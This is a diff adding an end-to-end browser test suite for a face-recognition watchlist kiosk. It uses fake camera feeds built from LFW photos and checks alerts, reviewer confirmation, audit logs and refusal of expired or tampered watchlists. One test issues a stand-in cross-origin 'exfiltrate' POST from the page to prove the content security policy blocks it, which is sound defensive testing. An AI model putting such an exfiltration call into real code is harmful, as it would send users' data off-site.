@@ -1,0 +1,240 @@
+// The kiosk in a real browser (Debian chromium via playwright-core) with a fake camera made by
+// ffmpeg from LFW photos: an enrolled person is alerted on and reviewed, strangers are not, the
+// demo's "Enrol me" works, bad watchlists and expired profiles are refused in words, only
+// same-origin requests are made and a cross-origin fetch is blocked by the CSP. `make e2e` runs
+// this inside a network namespace with loopback only (unshare -n).
+
+import { execFileSync, spawn } from 'node:child_process';
+import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
+import { createServer } from 'node:net';
+import { tmpdir } from 'node:os';
+import { dirname, join, resolve } from 'node:path';
+import { fileURLToPath } from 'node:url';
+import assert from 'node:assert/strict';
+import { after, before, describe, test } from 'node:test';
+
+import { chromium } from 'playwright-core';
+
+const repo = resolve(dirname(fileURLToPath(import.meta.url)), '../..');
+const targetDir = process.env.CARGO_TARGET_DIR ?? join(process.env.HOME, '.cache/veilwatch/target');
+const cli = process.env.VEILWATCH_BIN ?? join(targetDir, 'release/veilwatch');
+const data = process.env.VEILWATCH_DATA ?? join(repo, '../shared/data');
+const lfw = join(data, 'lfw/images');
+const artifacts = join(repo, 'tests/e2e/artifacts');
+const chromiumPath = process.env.CHROMIUM ?? '/usr/bin/chromium';
+const ENROLLED = 'Colin_Powell';
+const STRANGERS = ['Aaron_Sorkin', 'Abdullah_Gul', 'Andre_Agassi', 'Laura_Bush'];
+
+const haveData = existsSync(lfw);
+if (!haveData) {
+  if (process.env.CI === 'true') throw new Error(`LFW data not found at ${lfw}; CI=true requires it`);
+  console.error(`\n!!! SKIPPED: LFW data not found at ${lfw} (set VEILWATCH_DATA); the kiosk browser tests did not run !!!\n`);
+}
+
+const photo = (name, i) => join(lfw, name, `${name}_${String(i).padStart(4, '0')}.jpg`);
+const veilwatch = (...args) => execFileSync(cli, ['--models', join(repo, 'models'), ...args], { encoding: 'utf8' });
+
+const freePort = () => new Promise((ok) => {
+  const s = createServer().listen(0, '127.0.0.1', () => { const { port } = s.address(); s.close(() => ok(port)); });
+});
+
+// A 640×480 fake camera: each photo centred on grey for `seconds`, at 10 fps.
+function camera(path, photos, seconds) {
+  const inputs = photos.flatMap((p) => ['-loop', '1', '-t', String(seconds), '-i', p]);
+  const chains = photos.map((_, i) => `[${i}:v]scale=-2:480,pad=640:480:(ow-iw)/2:0:gray,fps=10,format=yuv420p,setsar=1[v${i}]`);
+  const concat = `${photos.map((_, i) => `[v${i}]`).join('')}concat=n=${photos.length}:v=1:a=0[out]`;
+  execFileSync('ffmpeg', ['-loglevel', 'error', '-y', ...inputs, '-filter_complex', [...chains, concat].join(';'), '-map', '[out]', path]);
+  return path;
+}
+
+const launch = (cameraFile) => chromium.launch({
+  executablePath: chromiumPath,
+  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking',
+    '--disable-component-update', '--disable-sync', '--use-fake-ui-for-media-stream', '--use-fake-device-for-media-stream',
+    ...(cameraFile ? [`--use-file-for-fake-video-capture=${cameraFile}`] : [])],
+});
+
+describe('kiosk', { skip: !haveData }, () => {
+  let scratch;
+  let server;
+  let origin;
+  let issuer;
+  let prfKey;
+  const requests = [];
+
+  before(async () => {
+    scratch = mkdtempSync(join(tmpdir(), 'veilwatch-kiosk-'));
+    const keys = join(scratch, 'keys');
+    issuer = veilwatch('keygen', '--out', keys).trim();
+    prfKey = readFileSync(join(keys, 'prf-local.key'), 'utf8').trim();
+    // Enrol the watched person from still photos 2..=8, plus two other people as decoys.
+    const people = join(scratch, 'people');
+    for (const [name, from, to] of [[ENROLLED, 2, 8], ['Tony_Blair', 1, 5], ['Hugo_Chavez', 1, 5]]) {
+      mkdirSync(join(people, name), { recursive: true });
+      for (let i = from; i <= to; i++) symlinkSync(photo(name, i), join(people, name, `${name}_${String(i).padStart(4, '0')}.jpg`));
+    }
+    const watchlist = join(scratch, 'list.vwl');
+    veilwatch('enroll', people, '--keys', keys, '--out', watchlist, '--valid-until', '2099-01-01');
+    const template = (from, until) => JSON.stringify({
+      purpose: 'Browser test of the kiosk', legal_basis: 'Test data (LFW)', operator: 'Veilwatch CI', location: 'Headless chromium',
+      valid_from: from, valid_until: until, threshold: 53, threshold_floor: 50, custody: { kind: 'local' },
+      query_rate_per_minute: 600, notice: 'Test deployment.', contact: 'ci@veilwatch.invalid',
+    });
+    writeFileSync(join(scratch, 'ok.json'), template('2020-01-01T00:00:00Z', '2099-01-01T00:00:00Z'));
+    writeFileSync(join(scratch, 'expired.json'), template('2020-01-01T00:00:00Z', '2021-01-01T00:00:00Z'));
+    veilwatch('profile', 'sign', '--keys', keys, '--watchlist', watchlist, '--template', join(scratch, 'ok.json'), '--out', join(scratch, 'ok.vwp'));
+    veilwatch('profile', 'sign', '--keys', keys, '--watchlist', watchlist, '--template', join(scratch, 'expired.json'), '--out', join(scratch, 'expired.vwp'));
+    const tampered = readFileSync(watchlist);
+    tampered[tampered.length - 100] ^= 1;
+    writeFileSync(join(scratch, 'tampered.vwl'), tampered);
+
+    camera(join(scratch, 'enrolled.y4m'), [photo(ENROLLED, 1)], 4);
+    camera(join(scratch, 'strangers.y4m'), STRANGERS.map((n) => photo(n, 1)), 1.5);
+
+    const port = await freePort();
+    origin = `http://127.0.0.1:${port}`;
+    server = spawn(cli, ['serve', '--listen', `127.0.0.1:${port}`, '--mount', `/=${join(repo, 'www')}`,
+      '--mount', `/pkg=${join(repo, 'pkg')}`, '--mount', `/models=${join(repo, 'models')}`], { stdio: 'ignore' });
+    for (let i = 0; i < 100; i++) {
+      try { if ((await fetch(origin)).ok) break; } catch { await new Promise((r) => setTimeout(r, 100)); }
+    }
+  });
+  after(() => {
+    server?.kill();
+    rmSync(scratch, { recursive: true, force: true });
+    const foreign = requests.filter((u) => !u.startsWith(`${origin}/`) && !u.startsWith('blob:') && !u.startsWith('data:'));
+    assert.deepEqual(foreign, [], 'every request the kiosk made was same-origin');
+  });
+
+  async function openKiosk(cameraFile) {
+    const browser = await launch(cameraFile);
+    const page = await browser.newPage();
+    page.on('request', (r) => requests.push(r.url()));
+    page.on('response', (r) => {
+      if (r.url().startsWith(origin)) assert.match(r.headers()['content-security-policy'] ?? '', /default-src 'self'.*connect-src 'self'/);
+    });
+    await page.goto(origin);
+    await page.waitForFunction(() => !document.getElementById('start').disabled, null, { timeout: 120_000 });
+    return { browser, page };
+  }
+
+  async function loadWatchlist(page, watchlist, profile) {
+    await page.click('details.operator summary');
+    await page.setInputFiles('#watchlist-file', watchlist);
+    if (profile) await page.setInputFiles('#profile-file', profile);
+    await page.fill('#issuer-key', issuer);
+    await page.fill('#prf-key', prfKey);
+    await page.click('#load');
+  }
+
+  test('a: an enrolled person seen in another photo raises an alert; the reviewer confirms; the audit log records it', async () => {
+    const { browser, page } = await openKiosk(join(scratch, 'enrolled.y4m'));
+    try {
+      await loadWatchlist(page, join(scratch, 'list.vwl'), join(scratch, 'ok.vwp'));
+      await page.waitForFunction(() => /Matching is on/.test(document.getElementById('status').textContent), null, { timeout: 30_000 });
+      assert.match(await page.textContent('#watchlist-status'), /3 entries · custody hmac-sha256-local/);
+      assert.match(await page.textContent('#false-alerts'), /per 1 000 passers-by/);
+      await page.click('#start');
+      await page.waitForSelector('li.alert', { timeout: 60_000 });
+      assert.match(await page.textContent('li.alert'), /Colin Powell/);
+      assert.equal(await page.locator('li.alert').count(), 1, 'one alert per track, not per frame');
+      mkdirSync(artifacts, { recursive: true });
+      await page.screenshot({ path: join(artifacts, 'kiosk-alert.png'), fullPage: true });
+      await page.fill('#reviewer', 'A. Reviewer');
+      await page.click('li.alert button[data-decision="confirm"]');
+      await page.waitForFunction(() => document.querySelectorAll('li.alert').length === 0, null, { timeout: 10_000 });
+      const download = page.waitForEvent('download');
+      await page.click('#export-audit');
+      const file = join(scratch, 'audit.jsonl');
+      await (await download).saveAs(file);
+      const audit = readFileSync(file, 'utf8');
+      assert.match(audit, /"kind":"alert"/);
+      assert.match(audit, /"decision":"confirmed","reference_id":"REF-\d+","reviewer":"A. Reviewer"/);
+      assert.doesNotMatch(audit, /Colin|photo|embedding/i, 'the audit log holds ids and counts, never identities or images');
+      assert.match(veilwatch('audit', 'verify', file), /chain intact/);
+      assert.match(await page.textContent('#processed-line'), /retained 0/);
+    } finally {
+      await browser.close();
+    }
+  });
+
+  test('b: people who are not enrolled raise no alert; counters grow; retained stays 0', async () => {
+    const { browser, page } = await openKiosk(join(scratch, 'strangers.y4m'));
+    try {
+      await loadWatchlist(page, join(scratch, 'list.vwl'), join(scratch, 'ok.vwp'));
+      await page.waitForFunction(() => /Matching is on/.test(document.getElementById('status').textContent), null, { timeout: 30_000 });
+      await page.click('#start');
+      await page.waitForFunction(() => Number(document.getElementById('attempts').textContent) >= 6, null, { timeout: 90_000 });
+      assert.equal(await page.locator('li.alert').count(), 0);
+      assert.ok(Number(await page.textContent('#faces-processed')) >= 6);
+      assert.equal(await page.textContent('#retained'), '0');
+    } finally {
+      await browser.close();
+    }
+  });
+
+  test('c: a cross-origin fetch from the page is blocked by the CSP', async () => {
+    const { browser, page } = await openKiosk(null);
+    try {
+      const outcome = await page.evaluate(async () => {
+        const violation = new Promise((ok) => document.addEventListener('securitypolicyviolation', (e) => ok(e.violatedDirective), { once: true }));
+        const fetched = await fetch('http://127.0.0.2:9/exfiltrate', { method: 'POST', body: 'x' }).then(() => 'sent', (e) => `blocked: ${e.message}`);
+        return { fetched, directive: await violation };
+      });
+      assert.match(outcome.fetched, /^blocked/);
+      assert.equal(outcome.directive, 'connect-src');
+    } finally {
+      await browser.close();
+    }
+  });
+
+  test('d: an expired profile and a tampered watchlist are refused in words; the kiosk keeps running', async () => {
+    const { browser, page } = await openKiosk(null);
+    try {
+      await loadWatchlist(page, join(scratch, 'list.vwl'), join(scratch, 'expired.vwp'));
+      await page.waitForFunction(() => document.getElementById('status').classList.contains('error'), null, { timeout: 30_000 });
+      assert.match(await page.textContent('#status'), /refused: the deployment expired on 2021-01-01T00:00:00Z; ask the issuer for a new profile/);
+      await page.reload();
+      await page.waitForFunction(() => !document.getElementById('start').disabled, null, { timeout: 120_000 });
+      await loadWatchlist(page, join(scratch, 'tampered.vwl'), null);
+      await page.waitForFunction(() => document.getElementById('status').classList.contains('error'), null, { timeout: 30_000 });
+      assert.match(await page.textContent('#status'), /refused: .*(signature does not verify|altered)/);
+      assert.match(await page.textContent('#watchlist-status'), /No watchlist loaded/);
+      assert.equal(await page.isDisabled('#start'), false);
+    } finally {
+      await browser.close();
+    }
+  });
+
+  test('demo: "Enrol me" enrols the visitor and the kiosk then alerts for them', async () => {
+    const { browser, page } = await openKiosk(join(scratch, 'enrolled.y4m'));
+    try {
+      await page.click('#start');
+      await page.waitForFunction(() => Number(document.getElementById('faces-processed').textContent) >= 2, null, { timeout: 60_000 });
+      await page.fill('#enrol-name', 'Demo Visitor');
+      await page.click('#enrol');
+      await page.waitForFunction(() => /enrolled/.test(document.getElementById('status').textContent), null, { timeout: 60_000 });
+      assert.match(await page.textContent('#watchlist-status'), /1 entry · custody hmac-sha256-local \(local key: weaker/);
+      await page.waitForSelector('li.alert', { timeout: 60_000 });
+      assert.match(await page.textContent('li.alert'), /Demo Visitor/);
+      await page.screenshot({ path: join(artifacts, 'kiosk-demo-alert.png'), fullPage: true });
+    } finally {
+      await browser.close();
+    }
+  });
+
+  test('a refused camera is explained on the page', async () => {
+    const browser = await chromium.launch({ executablePath: chromiumPath, args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking'] });
+    try {
+      const page = await browser.newPage();
+      await page.goto(origin);
+      await page.waitForFunction(() => !document.getElementById('start').disabled, null, { timeout: 120_000 });
+      await page.click('#start');
+      await page.waitForFunction(() => document.getElementById('status').classList.contains('error'), null, { timeout: 30_000 });
+      assert.match(await page.textContent('#status'), /Camera permission was refused|No camera was found/);
+      assert.equal(await page.isDisabled('#start'), false, 'the operator can try again');
+    } finally {
+      await browser.close();
+    }
+  });
+});
